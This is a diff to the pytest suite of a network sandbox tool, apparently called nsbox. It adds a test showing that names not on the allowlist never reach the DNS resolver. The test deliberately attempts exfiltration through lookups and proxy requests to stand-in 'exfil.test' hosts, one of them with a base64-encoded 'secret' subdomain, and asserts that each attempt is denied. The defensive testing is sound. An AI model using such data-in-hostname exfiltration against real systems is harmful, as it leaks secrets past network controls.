@@ -11,7 +11,7 @@ import tempfile
 import threading
 
 import pytest
-from conftest import run
+from conftest import NSBOX, run
 
 UP = "127.0.0.2"
 PY = "/usr/bin/python3.11"
@@ -174,8 +174,10 @@ print(json.dumps(R))
 ''')
     assert "ACCESS_DENIED" in out["bad"].upper()
     got = [b for b in seen if b]
+    assert got, (out, log)
     assert len(got) == 1 and got[0][:1] == b"\x16" and b"localhost" in got[0]
-    d = [e for e in log if e["kind"] == "connect"]
+    # The two tunnels end in either order: the audit line is written at the end.
+    d = sorted((e for e in log if e["kind"] == "connect"), key=lambda e: e["sni"] != "localhost")
     assert [e["decision"] for e in d] == ["allow", "deny"]
     assert d[1]["sni"] == "evil.example" and "SNI" in d[1]["reason"]
 
@@ -321,7 +323,10 @@ R["auth_only"] = socks("localhost", {port}, methods=b"\\x02")
 R["badname"] = socks("exa mple.com", 443)
 s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
 s.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03\\x09localhost" + struct.pack(">H", {port}))
-R["pipelined"] = s.recv(12).hex()
+got = b""
+while len(got) < 12:
+    got += s.recv(12 - len(got))
+R["pipelined"] = got.hex()
 ctx = ssl.create_default_context()
 try:
     ctx.wrap_socket(s, server_hostname="evil.example").close()
@@ -379,3 +384,100 @@ echo "direct: $(curl -sSk --noproxy '*' https://localhost:{port}/ 2>&1 | head -c
     assert "hello" not in lines["direct"]
     kinds = [(e["kind"], e["decision"], e["sni"]) for e in entries]
     assert ("connect", "allow", "localhost") in kinds and ("socks", "allow", "localhost") in kinds
+
+
+# A resolver for the host side: answers A queries with 192.0.2.7 (TEST-NET-1:
+# nothing is ever sent there) and records every name it is asked.
+RESOLVER = r'''
+import socket, struct, sys
+log, ready = sys.argv[1], sys.argv[2]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("127.0.0.53", 53))
+open(ready, "w").close()
+while True:
+    q, peer = s.recvfrom(2048)
+    if len(q) < 17:
+        continue
+    p, labels = 12, []
+    while q[p]:
+        labels.append(q[p + 1:p + 1 + q[p]].decode(errors="replace"))
+        p += 1 + q[p]
+    qtype = struct.unpack(">H", q[p + 1:p + 3])[0]
+    with open(log, "a") as f:
+        f.write(".".join(labels).lower() + " %d\n" % qtype)
+    qend = p + 5
+    an = b""
+    if qtype == 1:
+        an = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([192, 0, 2, 7])
+    hdr = q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1 if an else 0, 0, 0)
+    s.sendto(hdr + q[12:qend] + an, peer)
+'''
+
+
+def test_unlisted_names_never_reach_the_upstream_resolver(tmp_path):
+    """The host side resolves with the host's resolver (getaddrinfo and
+    /etc/resolv.conf).  Here the test makes its own network and mount
+    namespace (and, unprivileged, a user namespace to own them), where
+    /etc/resolv.conf names a resolver the test runs on 127.0.0.53, and runs
+    nsbox there: that resolver must see the listed names the sandbox asks
+    for, and none of the others."""
+    import subprocess
+    d = tmp_path
+    (d / "resolv.conf").write_text("nameserver 127.0.0.53\noptions attempts:1 timeout:2\n")
+    (d / "resolver.py").write_text(RESOLVER)
+    (d / "queries.log").write_text("")
+    inside = PRELUDE + r'''
+def q(name):
+    try:
+        return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
+    except socket.gaierror as e:
+        return e.errno
+R["listed"] = q("api.listed.test")
+R["unlisted"] = q("secret-data.exfil.test")
+R["unlisted_txt"] = q("c2VjcmV0.exfil.test.")
+R["proxy_unlisted"] = raw("CONNECT more-secrets.exfil.test:443 HTTP/1.1\r\n\r\n")
+s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
+s.sendall(b"\x05\x01\x00\x05\x01\x00\x03\x17socks-secret.exfil.test\x01\xbb")
+got = b""
+while len(got) < 12:
+    b = s.recv(12 - len(got))
+    if not b: break
+    got += b
+R["socks_unlisted"] = got.hex()
+R["proxy_listed"] = raw("CONNECT www.listed.test:443 HTTP/1.1\r\n\r\n")
+print(json.dumps(R))
+'''
+    (d / "inside.py").write_text(inside)
+    script = f'''set -e
+ip link set lo up
+mount --bind {d}/resolv.conf /etc/resolv.conf
+{PY} {d}/resolver.py {d}/queries.log {d}/ready &
+r=$!
+i=0; while [ ! -e {d}/ready ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
+set +e
+setpriv --inh-caps=-all --ambient-caps=-all {NSBOX} run --net-log {d}/net.jsonl --ro-bind {d}/inside.py:/inside.py \
+    --allow-net '*.listed.test' -- {PY} /inside.py
+rc=$?
+kill $r; wait $r 2>/dev/null
+exit $rc
+'''
+    ns = ["unshare", "--mount", "--net"]
+    if os.geteuid() != 0:
+        ns = ["unshare", "--user", "--map-current-user", "--keep-caps", "--mount", "--net"]
+    p = subprocess.run(ns + ["sh", "-c", script], capture_output=True, timeout=120)
+    assert p.returncode == 0, p.stderr.decode(errors="replace")
+    out = json.loads(p.stdout.decode().strip().splitlines()[-1])
+    asked = [line.split()[0] for line in (d / "queries.log").read_text().splitlines()]
+    assert out["listed"] == ["192.0.2.7"]
+    assert out["unlisted"] == socket.EAI_NONAME and out["unlisted_txt"] == socket.EAI_NONAME
+    assert out["proxy_unlisted"][1] == "name not on the allowlist"
+    assert out["socks_unlisted"][:8] == "05000502"   # no auth; not allowed by ruleset
+    # The listed name resolved on the host side, then found no route out of
+    # the test's namespace (192.0.2.7 is never reached).
+    assert out["proxy_listed"][0].startswith("HTTP/1.1 502")
+    assert "api.listed.test" in asked and "www.listed.test" in asked
+    assert not [n for n in asked if "exfil" in n], asked
+    log = [json.loads(line) for line in open(d / "net.jsonl")]
+    assert {e["host"] for e in log if e["decision"] == "deny"} >= {"secret-data.exfil.test", "c2vjcmv0.exfil.test",
+                                                                   "more-secrets.exfil.test",
+                                                                   "socks-secret.exfil.test"}
